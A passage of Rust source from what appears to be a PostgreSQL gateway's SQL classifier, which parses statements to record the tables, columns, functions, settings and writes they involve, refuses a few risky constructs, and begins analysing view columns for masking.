        dedup(&mut self.qualified);
        dedup(&mut self.fields);
        dedup(&mut self.settings);
        Ok(Statement {
            kinds: self.kinds,
            text: text.trim().to_string(),
            tables: self.tables,
            functions: self.functions,
            operators: self.operators,
            types: self.types,
            columns: self.columns,
            qualified: self.qualified,
            fields: self.fields,
            assigned_only: self.assigned_only,
            without_where: self.without_where,
            writes: self.writes,
            stores: self.stores,
            opaque_calls: self.opaque_calls,
            unnamed_tables: self.unnamed_tables,
            reshapes: self.reshapes,
            makes_view: self.makes_view,
            copy: self.copy,
            prepare: self.prepare,
            execute: self.execute,
            deallocate: self.deallocate,
            drops_portals: self.drops_portals,
            ends_cursors: self.ends_cursors,
            node: self.node,
            cursor: self.cursor,
            cursor_hold: self.cursor_hold,
            settings: self.settings,
        })
    }

    /// A single-name column reference that names a relation (or its alias) reads the whole row;
    /// a qualified one is resolved to its relation (see [`Statement::qualified`]).
    fn resolve_whole_rows(&mut self) {
        if self.single_names.is_empty() && self.qualified_names.is_empty() {
            return;
        }
        // Looked up, not scanned: a statement naming many columns and many aliases once cost
        // their product. One name may stand for several relations in different scopes: each.
        let mut aliases: HashMap<&str, Vec<&str>> = HashMap::with_capacity(self.aliases.len());
        for (a, rel) in &self.aliases {
            let rels = aliases.entry(*a).or_default();
            if !rels.contains(rel) {
                rels.push(*rel);
            }
        }
        // ON CONFLICT's EXCLUDED row is the one being inserted, named in the statement (its
        // values are read where they are written), unless a relation goes by that name.
        if !aliases.contains_key("excluded") {
            self.assigned.append(&mut self.excluded);
        }
        let items: HashSet<&str> = self.item_aliases.iter().copied().collect();
        for name in std::mem::take(&mut self.single_names) {
            for rel in aliases.get(name).into_iter().flatten() {
                self.columns.push((*rel).to_string());
            }
            // The whole row of a join, subquery or CTE: every column it has.
            if items.contains(name) {
                self.columns.push("*".into());
            }
        }
        for (q, name) in std::mem::take(&mut self.qualified_names) {
            for rel in aliases.get(q).into_iter().flatten() {
                self.qualified.push(((*rel).to_string(), name.to_string()));
            }
            // `j.f` over a join may be `f(j)`, every column of its relations.
            if self.join_aliases.contains(&q) {
                self.columns.push("*".into());
            }
        }
    }

    fn walk(&mut self, v: &'t V, parent: &'static str, field: &'static str) {
        match v {
            V::List(items) => {
                for i in items {
                    self.walk(i, parent, field);
                }
            }
            V::Obj(..) => self.walk_node(v, parent, field),
            _ => {}
        }
    }

    fn walk_fields(&mut self, v: &'t V, skip: &[&str]) {
        if let V::Obj(name, fields) = v {
            for (k, fv) in fields {
                if !skip.contains(k) {
                    self.walk(fv, name, k);
                }
            }
        }
    }

    fn walk_node(&mut self, v: &'t V, parent: &'static str, field: &'static str) {
        let name = v.name();
        if matches!(
            name,
            "DropStmt" | "TruncateStmt" | "AlterTableCmd" | "AlterDomainStmt"
        ) && (v.int("behavior") == protobuf::DropBehavior::DropCascade as i64
                // An extension's own tables go with it.
                || v.int("remove_type") == protobuf::ObjectType::ObjectExtension as i64)
            || name == "DropOwnedStmt"
            // Every relation of a schema renamed or an extension moved changes its name: a
            // rule on `billing.*` no longer reaches `b2.invoices`.
            || (name == "RenameStmt" && v.int("rename_type") == protobuf::ObjectType::ObjectSchema as i64)
            || (name == "AlterObjectSchemaStmt"
                && v.int("object_type") == protobuf::ObjectType::ObjectExtension as i64)
        {
            self.unnamed_tables = true;
        }
        match name {
            "RangeVar" => self.range_var(v, parent, field),
            "FuncCall" => {
                self.func_call(v);
                self.walk_fields(v, &["funcname"]);
            }
            "ColumnRef" => self.column_ref(v),
            "AIndirection" => {
                if let Some(arg) = v.get("arg") {
                    self.walk(arg, "AIndirection", "arg");
                }
                for i in v.list("indirection") {
                    match i.name() {
                        "String" => {
                            if let Some(name) = i.sval() {
                                self.columns.push(name.to_string());
                                self.fields.push(name.to_string());
                            }
                        }
                        "AStar" => self.columns.push("*".into()),
                        _ => self.walk(i, "AIndirection", "indirection"),
                    }
                }
            }
            "ResTarget" => {
                let assigned = matches!(
                    (parent, field),
                    (
                        "UpdateStmt" | "OnConflictClause" | "MergeWhenClause",
                        "target_list"
                    ) | ("InsertStmt", "cols")
                );
                if assigned && !v.str("name").is_empty() {
                    self.columns.push(v.str("name").to_string());
                    self.assigned.push(v.str("name"));
                }
                self.walk_fields(v, &[]);
            }
            "SelectStmt" | "InsertStmt" | "UpdateStmt" | "DeleteStmt" | "MergeStmt" => self.query(v),
            "Alias" => {
                self.item_aliases.push(v.str("aliasname"));
                // A join's column aliases rename its relations' columns, as a table's do.
                if (parent, field) == ("JoinExpr", "alias") {
                    self.column_aliases(v);
                    self.join_aliases.push(v.str("aliasname"));
                }
            }
            "AExpr" => {
                self.operator(v.list("name"));
                self.walk_fields(v, &["name"]);
            }
            // `CASE x WHEN y` compares with `=`, as `JOIN ... USING (c)` does, with no operator
            // written.
            "CaseExpr" => {
                if v.get("arg").is_some() {
                    self.operators.push("=".into());
                }
                self.walk_fields(v, &[]);
            }
            "JoinExpr" if !v.list("using_clause").is_empty() || v.flag("is_natural") => {
                self.operators.push("=".into());
                self.walk_fields(v, &[]);
            }
            // Wherever a type is named: casts, and also column definition lists
            // (`AS x(c checked)`), `RETURNING` types of JSON functions and table functions'
            // columns, whose values are made into that type.
            "TypeName" => {
                if let Some(&name) = name_parts(v.list("names")).last() {
                    self.types.push(name.to_string());
                }
                self.walk_fields(v, &[]);
            }
            "SubLink" => {
                // `x IN (SELECT ...)` is `= ANY`, its operator not written.
                if v.list("oper_name").is_empty()
                    && v.int("sub_link_type") == protobuf::SubLinkType::AnySublink as i64
                {
                    self.operators.push("=".into());
                }
                self.operator(v.list("oper_name"));
                self.walk_fields(v, &["oper_name"]);
            }
            "SortBy" => {
                self.operator(v.list("use_op"));
                self.walk_fields(v, &["use_op"]);
            }
            "ExecuteStmt" => {
                if self.execute.is_none() {
                    self.execute = Some(v.str("name").to_string());
                }
                self.walk_fields(v, &[]);
            }
            "LockingClause" => {
                // FOR UPDATE / NO KEY UPDATE / SHARE / KEY SHARE write row locks.
                self.writes = true;
                self.walk_fields(v, &[]);
            }
            "IntoClause" => {
                // SELECT INTO creates a table.
                self.writes = true;
                self.stores = true;
                self.push_kind(StatementKind::Create);
                self.walk_fields(v, &[]);
            }
            "CreateTrigStmt" | "CreateEventTrigStmt" => {
                // Also as an element of CREATE SCHEMA.
                self.reshapes |= v.name() == "CreateTrigStmt";
                // The function runs on every event from now on.
                let parts = name_parts(v.list("funcname"));
                if let Some(f) = parts.last() {
                    self.functions.push((*f).to_string());
                }
                self.walk_fields(v, &["funcname"]);
            }
            // Also as elements of CREATE SCHEMA.
            "ViewStmt" => {
                self.makes_view = true;
                self.reshapes |= v.flag("replace");
                self.walk_fields(v, &[]);
            }
            "RuleStmt" => {
                self.reshapes = true;
                self.walk_fields(v, &[]);
            }
            "DropStmt" => {
                let kind = v.int("remove_type");
                for o in v.list("objects") {
                    let parts = name_parts(std::slice::from_ref(o));
                    if is_relation_type(kind) {
                        self.qualified_table(&parts);
                    } else if is_table_member_type(kind) && parts.len() >= 2 {
                        // `DROP TRIGGER t ON s.orders`: [s, orders, t]. The table's rules guard
                        // its triggers, policies and rules too.
                        self.qualified_table(&parts[..parts.len() - 1]);
                    }
                }
                self.walk_fields(v, &["objects"]);
            }
            "CommentStmt" | "SecLabelStmt" => {
                let objtype = v.int("objtype");
                if let Some(object) = v.get("object") {
                    let parts = name_parts(std::slice::from_ref(object));
                    if objtype == protobuf::ObjectType::ObjectColumn as i64 && parts.len() >= 2 {
                        self.qualified_table(&parts[..parts.len() - 1]);
                        self.columns.push(parts[parts.len() - 1].to_string());
                    } else if is_relation_type(objtype) {
                        self.qualified_table(&parts);
                    } else if is_table_member_type(objtype) && parts.len() >= 2 {
                        self.qualified_table(&parts[..parts.len() - 1]);
                    }
                }
                self.walk_fields(v, &["object"]);
            }
            _ => self.walk_fields(v, &[]),
        }
    }

    /// A query (SELECT, or DML anywhere): its kind, its WITH scope, then its parts.
    fn query(&mut self, v: &'t V) {
        let name = v.name();
        let kind = match name {
            "InsertStmt" => Some(StatementKind::Insert),
            "UpdateStmt" => Some(StatementKind::Update),
            "DeleteStmt" => Some(StatementKind::Delete),
            "MergeStmt" => Some(StatementKind::Merge),
            _ => None,
        };
        if let Some(k) = kind {
            self.push_kind(k);
            self.writes = true;
            self.stores |= k != StatementKind::Delete;
            // pg_settings' update rule calls set_config: a SET out of sight of the checks above.
            if let Some(rel) = v.get("relation")
                && rel.str("relname") == "pg_settings"
                && matches!(rel.str("schemaname"), "" | "pg_catalog")
            {
                self.refused = Some("changing pg_settings is refused through the gateway: use SET".into());
            }
        }
        if matches!(name, "UpdateStmt" | "DeleteStmt") && v.get("where_clause").is_none() {
            self.without_where = true;
        }
        // An upsert updates what it conflicts with: an UPDATE as much as an INSERT (PostgreSQL
        // asks for both privileges), of every row a query as its source may name.
        if name == "InsertStmt"
            && let Some(conflict) = v.get("on_conflict_clause")
            && conflict.int("action") == protobuf::OnConflictAction::OnconflictUpdate as i64
        {
            self.push_kind(StatementKind::Update);
            let from_a_query = v
                .get("select_stmt")
                .is_some_and(|s| !s.list("from_clause").is_empty());
            if from_a_query && conflict.get("where_clause").is_none() {
                self.without_where = true;
            }
        }
        // MERGE is what its actions are.
        if name == "MergeStmt" {
            for clause in v.list("merge_when_clauses") {
                let command = clause.int("command_type");
                let kind = if command == protobuf::CmdType::CmdUpdate as i64 {
                    Some(StatementKind::Update)
                } else if command == protobuf::CmdType::CmdDelete as i64 {
                    Some(StatementKind::Delete)
                } else if command == protobuf::CmdType::CmdInsert as i64 {
                    Some(StatementKind::Insert)
                } else {
                    None
                };
                if let Some(k) = kind {
                    self.push_kind(k);
                }
            }
        }
        if name == "MergeStmt" && merges_every_row(v) {
            self.without_where = true;
        }
        let base = self.ctes.len();
        if let Some(with) = v.get("with_clause") {
            let recursive = with.flag("recursive");
            let ctes = with.list("ctes");
            let names: Vec<&'t str> = ctes.iter().map(|c| c.str("ctename")).collect();
            self.item_aliases.extend(names.iter().copied());
            for (i, cte) in ctes.iter().enumerate() {
                // A CTE sees the ones before it; with RECURSIVE, all of them (itself included).
                self.ctes.truncate(base);
                let visible = if recursive { &names[..] } else { &names[..i] };
                self.ctes.extend(visible.iter().copied());
                self.walk(cte, "WithClause", "ctes");
            }
            self.ctes.truncate(base);
            self.ctes.extend(names.iter().copied());
        }
        self.walk_fields(v, &["with_clause"]);
        self.ctes.truncate(base);
    }

    fn range_var(&mut self, v: &'t V, parent: &'static str, field: &'static str) {
        let rel = v.str("relname");
        if let Some(alias) = v.get("alias") {
            self.aliases.push((alias.str("aliasname"), rel));
            self.column_aliases(alias);
        }
        self.aliases.push((rel, rel));
        let schema = v.str("schemaname");
        // Only FROM items can name a CTE; DML targets, COPY, LOCK and DDL name relations.
        let from_item = matches!(field, "from_clause" | "using_clause")
            || (parent, field) == ("MergeStmt", "source_relation")
            || (parent == "JoinExpr" && matches!(field, "larg" | "rarg"));
        if schema.is_empty() && from_item && self.ctes.contains(&rel) {
            return;
        }
        self.table(schema, rel);
    }

    /// `FROM customers AS t(a, b, x)` names the columns by position, out of sight of their
    /// names (`upper(x)` is `upper(email)`): read as a star.
    fn column_aliases(&mut self, alias: &'t V) {
        if !alias.list("colnames").is_empty() {
            self.columns.push("*".into());
        }
    }

    fn table(&mut self, schema: &str, rel: &str) {
        let schema = if !schema.is_empty() {
            schema
        } else if rel.starts_with("pg_") {
            // pg_catalog is searched before the search_path.
            "pg_catalog"
        } else {
            "public"
        };
        self.tables.push(format!("{schema}.{rel}"));
    }

    /// `[catalog.][schema.]name`.
    fn qualified_table(&mut self, parts: &[&str]) {
        match parts {
            [] => {}
            [rel] => self.table("", rel),
            [.., schema, rel] => self.table(schema, rel),
        }
    }

    fn func_call(&mut self, v: &'t V) {
        let parts = name_parts(v.list("funcname"));
        let Some(&name) = parts.last() else { return };
        let schema = if parts.len() >= 2 {
            parts[parts.len() - 2]
        } else {
            ""
        };
        self.functions.push(name.to_string());
        if name.eq_ignore_ascii_case("set_config") {
            self.set_config(v.list("args"));
        }
        // These run any portal by name, a Bind-made or the unnamed one included, past what the
        // gateway checks of FETCH (which portals, under which configuration, how many rows).
        if CURSOR_READING_FUNCTIONS.contains(&name) {
            self.refused = Some(format!(
                "{name} reads a cursor or portal past the gateway's decisions; use FETCH"
            ));
        }
        let trusted_path = schema.is_empty() || schema == "pg_catalog";
        if !(trusted_path && read_only_functions().contains(name)) {
            self.writes = true;
            self.stores = true;
            self.opaque_calls = true;
        }
    }

    /// `set_config(name, value, local)`: a SetRole when it may change the role.
    fn set_config(&mut self, args: &'t [V]) {
        match args.first().and_then(const_text) {
            Some(name) => {
                let name = name.to_ascii_lowercase();
                let value = args.get(1).and_then(const_text);
                self.check_setting(&name, value.as_deref());
                let role = matches!(name.as_str(), "role" | "session_authorization");
                self.push_kind(if role {
                    StatementKind::SetRole
                } else {
                    StatementKind::Set
                });
                self.settings.push(name);
            }
            // A computed name may be any setting, those the gateway pins included.
            None => {
                self.push_kind(StatementKind::SetRole);
                self.settings.push("*".into());
                self.refused = Some(
                    "set_config with a computed setting name is refused by the gateway (it could change how statements are read); name the setting literally"
                        .into(),
                );
            }
        }
    }

    fn operator(&mut self, name: &'t [V]) {
        let parts = name_parts(name);
        let Some(&op) = parts.last() else { return };
        let schema = if parts.len() >= 2 {
            parts[parts.len() - 2]
        } else {
            ""
        };
        if !((schema.is_empty() || schema == "pg_catalog") && BUILTIN_OPERATORS.contains(&op)) {
            // Listed with the functions, so a rule can name it (`functions: ["<=>"]`) or deny it.
            self.functions.push(op.to_string());
            self.writes = true;
            self.stores = true;
            self.opaque_calls = true;
        } else if schema.is_empty() {
            // Resolved by argument types along the search path, the database's own included.
            // BETWEEN is its comparisons.
            match op {
                "BETWEEN" | "BETWEEN SYMMETRIC" => self.operators.extend([">=".into(), "<=".into()]),
                "NOT BETWEEN" | "NOT BETWEEN SYMMETRIC" => {
                    self.operators.extend(["<".into(), ">".into()]);
                }
                _ => self.operators.push(op.to_string()),
            }
        }
    }

    fn column_ref(&mut self, v: &'t V) {
        let fields = v.list("fields");
        for f in fields {
            if f.name() == "AStar" {
                self.columns.push("*".into());
            }
        }
        if let Some(last) = fields.last().and_then(V::sval) {
            self.columns.push(last.to_string());
            if fields.len() == 1 {
                self.single_names.push(last);
            } else if let Some(q) = fields[fields.len() - 2].sval() {
                self.fields.push(last.to_string());
                self.qualified_names.push((q, last));
                if fields.len() == 2 && q == "excluded" {
                    self.excluded.push(last);
                }
            }
        }
    }
}

impl Statement {
    /// This statement (`CREATE TABLE t AS EXECUTE p`, `EXPLAIN ANALYZE EXECUTE p`) with the
    /// prepared statement it runs inside it: everything either does.
    pub fn running(&self, prepared: &Statement) -> Statement {
        let mut s = prepared.clone();
        s.kinds = self
            .kinds
            .iter()
            .copied()
            .filter(|k| *k != StatementKind::Execute)
            .collect();
        for k in &prepared.kinds {
            if !s.kinds.contains(k) {
                s.kinds.push(*k);
            }
        }
        s.text.clone_from(&self.text);
        s.node = self.node;
        s.tables.extend(self.tables.iter().cloned());
        s.functions.extend(self.functions.iter().cloned());
        s.operators.extend(self.operators.iter().cloned());
        s.types.extend(self.types.iter().cloned());
        s.columns.extend(self.columns.iter().cloned());
        s.qualified.extend(self.qualified.iter().cloned());
        s.fields.extend(self.fields.iter().cloned());
        s.settings.extend(self.settings.iter().cloned());
        dedup(&mut s.tables);
        dedup(&mut s.functions);
        dedup(&mut s.operators);
        dedup(&mut s.types);
        dedup(&mut s.columns);
        dedup(&mut s.qualified);
        dedup(&mut s.fields);
        dedup(&mut s.settings);
        s.writes |= self.writes;
        s.stores |= self.stores;
        s.opaque_calls |= self.opaque_calls;
        s.without_where |= self.without_where;
        s.execute = None;
        s.prepare = None;
        s
    }
}

/// Relation object types (DROP, COMMENT, SECURITY LABEL).
fn is_relation_type(t: i64) -> bool {
    use protobuf::ObjectType as O;
    [
        O::ObjectTable,
        O::ObjectView,
        O::ObjectMatview,
        O::ObjectForeignTable,
        O::ObjectSequence,
        O::ObjectIndex,
    ]
    .iter()
    .any(|o| *o as i64 == t)
}

/// Objects named with their table, last (`trigger ON table`): a trigger, a row-level security
/// policy, a rewrite rule.
fn is_table_member_type(t: i64) -> bool {
    use protobuf::ObjectType as O;
    [
        O::ObjectTrigger,
        O::ObjectPolicy,
        O::ObjectRule,
        O::ObjectTabconstraint,
    ]
    .iter()
    .any(|o| *o as i64 == t)
}

/// The strings of a name list (`List` of `String` nodes, or `String` nodes).
/// Whether a MERGE updates or deletes every row of its target, as an UPDATE or DELETE without
/// WHERE does: an unconditional UPDATE or DELETE for rows matched on a condition that names no
/// column (`ON true`), or for every row the source does not match (`WHEN NOT MATCHED BY
/// SOURCE`).
/// Functions that read a cursor or portal by name (`PortalRunFetch`).
const CURSOR_READING_FUNCTIONS: [&str; 2] = ["cursor_to_xml", "cursor_to_xmlschema"];

fn merges_every_row(merge: &V) -> bool {
    fn names_a_column(v: &V) -> bool {
        match v {
            V::Obj("ColumnRef", _) => true,
            V::Obj(_, fields) => fields.iter().any(|(_, f)| names_a_column(f)),
            V::List(items) => items.iter().any(names_a_column),
            _ => false,
        }
    }
    let constant_join = !merge.get("join_condition").is_some_and(names_a_column);
    merge.list("merge_when_clauses").iter().any(|clause| {
        let command = clause.int("command_type");
        let modifies =
            command == protobuf::CmdType::CmdUpdate as i64 || command == protobuf::CmdType::CmdDelete as i64;
        let kind = clause.int("match_kind");
        let every = kind == protobuf::MergeMatchKind::MergeWhenNotMatchedBySource as i64
            || (kind == protobuf::MergeMatchKind::MergeWhenMatched as i64 && constant_join);
        modifies && every && clause.get("condition").is_none()
    })
}

fn name_parts(items: &[V]) -> Vec<&str> {
    let mut out = Vec::new();
    for i in items {
        match i.name() {
            "String" => out.extend(i.sval()),
            "List" => out.extend(i.list("items").iter().filter_map(V::sval)),
            _ => {}
        }
    }
    out
}

/// The text of a constant (through casts), as the server would read it.
fn const_text(v: &V) -> Option<String> {
    match v.name() {
        "AConst" => v.get("val").and_then(const_text),
        "TypeCast" => v.get("arg").and_then(const_text),
        "String" => Some(v.sval().unwrap_or("").to_string()),
        "Integer" => Some(v.int("ival").to_string()),
        "Float" => Some(v.str("fval").to_string()),
        "Boolean" => Some(if v.flag("boolval") { "true" } else { "false" }.to_string()),
        _ => None,
    }
}

/// Whether an option argument is plainly false (no argument means true).
fn is_false(arg: Option<&V>) -> bool {
    match arg {
        None => false,
        Some(a) => match const_text(a) {
            Some(t) => matches!(
                t.to_ascii_lowercase().as_str(),
                "false" | "off" | "no" | "0" | "f" | "n"
            ),
            None => false,
        },
    }
}

/// The statement a PREPARE text wraps: what follows its first `AS` keyword.
fn prepared_text(text: &str) -> String {
    if let Ok(scan) = pg_query::scan(text) {
        let mut tokens = scan.tokens.iter();
        while let Some(t) = tokens.next() {
            if t.token == protobuf::Token::As as i32 {
                if let Some(next) = tokens.next()
                    && let Some(rest) = usize::try_from(next.start).ok().and_then(|s| text.get(s..))
                {
                    return rest.trim().to_string();
                }
                break;
            }
        }
    }
    text.trim().to_string()
}

fn dedup<T: Clone + Eq + std::hash::Hash>(v: &mut Vec<T>) {
    if v.len() < 2 {
        return;
    }
    let mut seen = HashSet::with_capacity(v.len());
    let mut out = Vec::with_capacity(v.len());
    for s in v.drain(..) {
        if !seen.contains(&s) {
            seen.insert(s.clone());
            out.push(s);
        }
    }
    *v = out;
}

/// Built-in operator symbols, which compute without side effects.
#[rustfmt::skip]
const BUILTIN_OPERATORS: &[&str] = &[
    "=", "<>", "!=", "<", ">", "<=", ">=", "+", "-", "*", "/", "%", "^", "|/", "||/", "@", "&", "|", "#",
    "~", "<<", ">>", "<<=", ">>=", "||", "~~", "!~~", "~~*", "!~~*", "~*", "!~", "!~*", "@>", "<@", "&&",
    "?", "?|", "?&", "->", "->>", "#>", "#>>", "#-", "@?", "@@", "@@@", "<->", "&<", "&>", "<<|", "|>>",
    "&<|", "|&>", "<^", ">^", "?#", "?-", "?-|", "?||", "~=", "@-@", "##", "-|-", "!!", "BETWEEN",
    "NOT BETWEEN", "BETWEEN SYMMETRIC", "NOT BETWEEN SYMMETRIC",
];

/// The built-in names the classifier trusts: a function of the database's own under one of them
/// (on a server whose catalog lacks it, `date_add` before PostgreSQL 16) is not the built-in.
pub fn trusted_function_names() -> impl Iterator<Item = &'static str> {
    READ_ONLY_FUNCTIONS
        .iter()
        .chain(&CURSOR_READING_FUNCTIONS)
        .copied()
}

/// Built-in functions that only compute or read: calling anything else may write.
fn read_only_functions() -> &'static HashSet<&'static str> {
    static SET: OnceLock<HashSet<&'static str>> = OnceLock::new();
    SET.get_or_init(|| READ_ONLY_FUNCTIONS.iter().copied().collect())
}

#[rustfmt::skip]
const READ_ONLY_FUNCTIONS: &[&str] = &[
    // Aggregates and window functions.
    "count", "sum", "avg", "min", "max", "array_agg", "string_agg", "bool_and", "bool_or", "every",
    "bit_and", "bit_or", "bit_xor", "json_agg", "jsonb_agg", "json_object_agg", "jsonb_object_agg",
    "json_agg_strict", "jsonb_agg_strict", "json_object_agg_strict", "jsonb_object_agg_strict",
    "json_object_agg_unique", "jsonb_object_agg_unique", "xmlagg", "stddev", "stddev_pop",
    "stddev_samp", "variance", "var_pop", "var_samp", "corr", "covar_pop", "covar_samp", "regr_avgx",
    "regr_avgy", "regr_count", "regr_intercept", "regr_r2", "regr_slope", "regr_sxx", "regr_sxy",
    "regr_syy", "percentile_cont", "percentile_disc", "mode", "any_value", "range_agg",
    "range_intersect_agg", "grouping", "row_number", "rank", "dense_rank", "percent_rank",
    "cume_dist", "ntile", "lag", "lead", "first_value", "last_value", "nth_value",
    // Strings.
    "lower", "upper", "initcap", "length", "char_length", "character_length", "octet_length",
    "bit_length", "substr", "substring", "left", "right", "trim", "btrim", "ltrim", "rtrim", "lpad",
    "rpad", "replace", "translate", "overlay", "position", "strpos", "split_part", "concat",
    "concat_ws", "format", "repeat", "reverse", "ascii", "chr", "to_hex", "to_bin", "to_oct",
    "md5", "sha224", "sha256", "sha384", "sha512", "crc32", "crc32c", "encode", "decode",
    "convert", "convert_from", "convert_to", "quote_ident", "quote_literal", "quote_nullable",
    "starts_with", "string_to_array", "string_to_table", "regexp_match", "regexp_matches",
    "regexp_replace", "regexp_split_to_array", "regexp_split_to_table", "regexp_like",
    "regexp_count", "regexp_instr", "regexp_substr", "similar_to_escape", "similar_escape",
    "like_escape", "normalize", "is_normalized", "unistr", "casefold", "get_byte", "get_bit",
    "set_byte", "set_bit", "bit_count", "text", "varchar", "bpchar", "char", "name",
    "pg_collation_for", "to_char", "to_number", "to_date", "to_timestamp",
    // Numbers.
    "abs", "ceil", "ceiling", "floor", "round", "trunc", "sign", "sqrt", "cbrt", "power", "pow",
    "exp", "ln", "log", "log10", "mod", "div", "gcd", "lcm", "factorial", "pi", "degrees",
    "radians", "sin", "cos", "tan", "cot", "asin", "acos", "atan", "atan2", "sind", "cosd", "tand",
    "cotd", "asind", "acosd", "atand", "atan2d", "sinh", "cosh", "tanh", "asinh", "acosh", "atanh",
    "width_bucket", "scale", "min_scale", "trim_scale", "random", "random_normal", "erf", "erfc",
    "int2", "int4", "int8", "float4", "float8", "numeric", "bool", "money",
    // Dates and times.
    "now", "current_timestamp", "clock_timestamp", "statement_timestamp",
    "transaction_timestamp", "timeofday", "date_trunc", "date_part", "date_bin", "extract", "age",
    "make_date", "make_time", "make_timestamp", "make_timestamptz", "make_interval",
    "justify_days", "justify_hours", "justify_interval", "isfinite", "timezone", "overlaps",
    "date", "time", "timestamp", "timestamptz", "interval", "date_add", "date_subtract",
    // JSON and XML.
    "to_json", "to_jsonb", "row_to_json", "array_to_json", "json_build_object",
    "jsonb_build_object", "json_build_array", "jsonb_build_array", "json_object", "jsonb_object",
    "json_array_length", "jsonb_array_length", "json_each", "jsonb_each", "json_each_text",
    "jsonb_each_text", "json_extract_path", "jsonb_extract_path", "json_extract_path_text",
    "jsonb_extract_path_text", "json_object_keys", "jsonb_object_keys", "json_array_elements",
    "jsonb_array_elements", "json_array_elements_text", "jsonb_array_elements_text",
    "json_typeof", "jsonb_typeof", "json_strip_nulls", "jsonb_strip_nulls", "jsonb_pretty",
    "jsonb_set", "jsonb_set_lax", "jsonb_insert", "jsonb_concat", "jsonb_delete",
    "jsonb_path_query", "jsonb_path_query_array", "jsonb_path_query_first", "jsonb_path_exists",
    "jsonb_path_match", "jsonb_path_query_tz", "jsonb_path_query_array_tz",
    "jsonb_path_query_first_tz", "jsonb_path_exists_tz", "jsonb_path_match_tz",
    "json_populate_record", "jsonb_populate_record", "json_populate_recordset",
    "jsonb_populate_recordset", "json_to_record", "jsonb_to_record", "json_to_recordset",
    "jsonb_to_recordset", "jsonb_populate_record_valid", "json_scalar", "json_serialize",
    "xpath", "xpath_exists", "xml_is_well_formed", "xml_is_well_formed_document",
    "xml_is_well_formed_content", "xmlcomment", "xmltext",
    // Arrays and ranges.
    "array_length", "array_lower", "array_upper", "array_ndims", "array_dims", "cardinality",
    "array_position", "array_positions", "array_append", "array_prepend", "array_cat",
    "array_remove", "array_replace", "array_fill", "array_to_string", "array_sample",
    "array_shuffle", "trim_array", "unnest", "generate_series", "generate_subscripts",
    "lower_inc", "upper_inc", "lower_inf", "upper_inf", "isempty", "range_merge", "multirange",
    "int4range", "int8range", "numrange", "tsrange", "tstzrange", "daterange",
    // Text search (ts_stat and ts_rewrite run SQL given as text: not listed).
    "to_tsvector", "to_tsquery", "plainto_tsquery", "phraseto_tsquery", "websearch_to_tsquery",
    "ts_rank", "ts_rank_cd", "ts_headline", "setweight", "strip", "numnode", "querytree",
    "tsvector_to_array", "array_to_tsvector", "ts_delete", "ts_filter", "ts_lexize",
    "get_current_ts_config",
    // Conditionals, types, UUIDs, network.
    "num_nulls", "num_nonnulls", "pg_typeof", "format_type", "to_regclass", "to_regtype",
    "to_regproc", "to_regprocedure", "to_regoper", "to_regnamespace", "to_regrole",
    "to_regcollation", "to_regtypemod", "gen_random_uuid", "uuidv4", "uuid_extract_version",
    "uuid_extract_timestamp", "host", "hostmask", "netmask", "network", "masklen", "broadcast",
    "abbrev", "family", "inet_same_family", "inet_merge", "set_masklen",
    // Session and catalog information.
    "current_database", "current_catalog", "current_schema", "current_schemas", "current_user",
    "current_role", "session_user", "system_user", "user", "version", "current_setting",
    "pg_backend_pid", "pg_blocking_pids", "pg_safe_snapshot_blocking_pids", "inet_client_addr",
    "inet_client_port", "inet_server_addr", "inet_server_port", "pg_postmaster_start_time",
    "pg_conf_load_time", "pg_is_in_recovery", "pg_last_xact_replay_timestamp",
    "pg_current_snapshot", "txid_current_snapshot", "pg_snapshot_xmin", "pg_snapshot_xmax",
    "pg_snapshot_xip", "pg_visible_in_snapshot", "pg_trigger_depth", "pg_jit_available",
    "pg_listening_channels", "pg_my_temp_schema", "pg_is_other_temp_schema", "row_security_active",
    "pg_has_role", "has_any_column_privilege", "has_column_privilege", "has_database_privilege",
    "has_foreign_data_wrapper_privilege", "has_function_privilege", "has_language_privilege",
    "has_parameter_privilege", "has_schema_privilege", "has_sequence_privilege",
    "has_server_privilege", "has_table_privilege", "has_tablespace_privilege",
    "has_type_privilege", "pg_table_is_visible", "pg_type_is_visible", "pg_function_is_visible",
    "pg_get_constraintdef", "pg_get_expr", "pg_get_functiondef", "pg_get_function_arguments",
    "pg_get_function_identity_arguments", "pg_get_function_result", "pg_get_indexdef",
    "pg_get_keywords", "pg_get_ruledef", "pg_get_serial_sequence", "pg_get_statisticsobjdef",
    "pg_get_triggerdef", "pg_get_userbyid", "pg_get_viewdef", "pg_get_partkeydef",
    "pg_index_column_has_property", "pg_index_has_property", "pg_indexam_has_property",
    "pg_options_to_table", "pg_tablespace_location", "obj_description", "col_description",
    "shobj_description", "pg_column_size", "pg_column_compression", "pg_database_size",
    "pg_indexes_size", "pg_relation_size", "pg_table_size", "pg_total_relation_size",
    "pg_tablespace_size", "pg_size_pretty", "pg_size_bytes", "pg_encoding_to_char",
    "pg_char_to_encoding", "pg_client_encoding", "currval", "lastval", "pg_sleep",
    "pg_sleep_for", "pg_sleep_until", "pg_input_is_valid", "pg_input_error_info",
];

// ---------------------------------------------------------------------------------------------
// The generic tree.

// ---------------------------------------------------------------------------------------------
// View definitions, for masking.

/// What one output column of a view reads.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ViewColumn {
    /// The names of the columns its expression mentions anywhere (subqueries included); `*` for
    /// a whole-row reference (`t.*`, or a relation named as a value, `row_to_json(t)`).
    pub mentions: Vec<String>,
    /// It is a plain column reference (on every side of a set operation): it shows a column's
    /// values as they are, rather than computing over them.
    pub bare: bool,
}

/// What each output column of a view reads, from its definition (`pg_get_viewdef`), in order.
/// `None` when a column's source cannot be told by name: the FROM clause has a subquery,
/// function or CTE (whose output columns are renamed inside it), a set operation's sides
/// disagree, or the definition does not parse as one SELECT.
pub fn view_column_sources(definition: &str) -> Option<Vec<ViewColumn>> {
    let parsed = pg_query::parse(definition).ok()?;
    let [raw] = parsed.protobuf.stmts.as_slice() else {
        return None;
    };
    let node = tree::build(&**raw.stmt.as_ref()?).ok()?;
    // Names a whole row may go by, at any depth (a subquery's own FROM included).
    let mut relations = Vec::new();
    row_names(&node, &mut relations);
    select_sources(&node, &relations)
}

fn select_sources(v: &V, relations: &[String]) -> Option<Vec<ViewColumn>> {
    if v.name() != "SelectStmt" || v.get("with_clause").is_some() || v.get("values_lists").is_some() {
        return None;
    }
    if let (Some(l), Some(r)) = (v.get("larg"), v.get("rarg")) {
        let (mut l, r) = (select_sources(l, relations)?, select_sources(r, relations)?);
        if l.len() != r.len() {
            return None;
        }
        for (a, b) in l.iter_mut().zip(r) {
            a.mentions.extend(b.mentions);
            a.bare &= b.bare;
        }
        return Some(l);
    }
